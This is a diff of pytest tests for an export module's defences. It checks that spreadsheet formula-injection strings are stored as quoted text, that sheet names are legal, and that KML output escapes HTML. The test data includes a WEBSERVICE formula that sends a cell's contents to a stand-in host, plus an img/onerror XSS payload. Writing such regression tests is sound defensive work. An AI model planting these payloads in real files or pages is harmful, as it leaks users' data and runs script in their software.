@@ -275,3 +275,99 @@ def test_xlsx_cells_that_look_like_formulas_are_text(indicators):
     plain = wb["a"].cell(2, 2)  # an ordinary text cell ("a") is not touched
     assert plain.value == "a"
     assert not plain.quotePrefix
+
+
+# --------------------------------------------------------------------------- issue 17
+
+HOSTILE = [
+    '=WEBSERVICE("http://example.com/?"&A1)',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1",
+    "\r=1",
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_formula_cells_become_text_and_numbers_stay_numbers(value):
+    assert export.text_cell(value) == "'" + value
+    assert export.text_cell(-3.5) == -3.5
+    assert export.text_cell("地区生产总值") == "地区生产总值"
+
+
+@pytest.fixture(scope="module")
+def hostile_indicators():
+    rows = []
+    for i, name in enumerate(HOSTILE):
+        rows.append(
+            {
+                "id": f"x:indicator:{i}",
+                "plan_id": "plan[1]:a*b?/c\\d-with-a-very-long-name-beyond-31",
+                "name": name,
+                "unit": "%",
+                "base_value": -3.5,
+                "target_value": 2.0,
+                "target_text": name,
+                "source_line": i + 1,
+                "source_quote": name,
+            }
+        )
+    return indicator_table(rows)
+
+
+def test_csv_has_no_live_formula(hostile_indicators):
+    back = pd.read_csv(
+        io.BytesIO(export.indicators_csv_bytes(hostile_indicators)),
+        encoding="utf-8-sig",
+        keep_default_na=False,
+    )
+    for col in ("name", "target_text", "source_quote"):
+        for cell in back[col]:
+            assert cell.startswith("'"), cell
+    assert back["base_value"].tolist() == [-3.5] * len(HOSTILE)  # still numeric
+
+
+def test_xlsx_has_no_formula_cells_and_legal_sheet_names(hostile_indicators):
+    import openpyxl
+
+    wb = openpyxl.load_workbook(io.BytesIO(export.indicators_xlsx_bytes(hostile_indicators)))
+    assert len(wb.sheetnames) == 2
+    for ws in wb.worksheets:
+        assert len(ws.title) <= 31 and not set(ws.title) & set("[]:*?/\\")
+        for r in ws.iter_rows():
+            for c in r:
+                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+                if isinstance(c.value, str) and c.value in HOSTILE:
+                    # stored as text with Excel's quote prefix: shown as written, never run
+                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
+        header = [c.value for c in ws[1]]
+        col = header.index("base_value") + 1
+        values = [ws.cell(row=r, column=col).value for r in range(2, ws.max_row + 1)]
+        assert values == [-3.5] * len(HOSTILE)  # a real negative number stays numeric
+
+
+def test_sheet_names_are_unique_legal_and_short():
+    names = export.sheet_names(["a/b", "a:b", "x" * 40, "x" * 40 + "y", "all", "[]"])
+    assert len(set(n.lower() for n in names.values()) | {"all"}) == len(names) + 1
+    for n in names.values():
+        assert 0 < len(n) <= 31 and not set(n) & set("[]:*?/\\")
+
+
+def test_kml_description_is_escaped_text(gdf, tmp_path):
+    evil = gdf.copy()
+    evil["source_quote"] = '<img src="http://example.com/x.png" onerror="alert(1)">'
+    text = export.kml_bytes(evil).decode("utf-8")
+    # no markup anywhere (description, name, ExtendedData): HTML-escaped, inside CDATA or XML
+    assert "<img" not in text
+    assert "&lt;img" in text or "&amp;lt;img" in text
+
+
+def test_export_bytes_refuses_unknown_formats_and_empty_selections(gdf):
+    from atlas.errors import InputError
+
+    with pytest.raises(InputError, match="unknown export format 'doc'"):
+        export.export_bytes("doc", {"layout": gdf})
+    with pytest.raises(InputError, match="no features"):
+        export.export_bytes("gpkg", {})
+    assert export.export_bytes("geojson", {"layout": gdf}) == export.geojson_bytes(gdf)
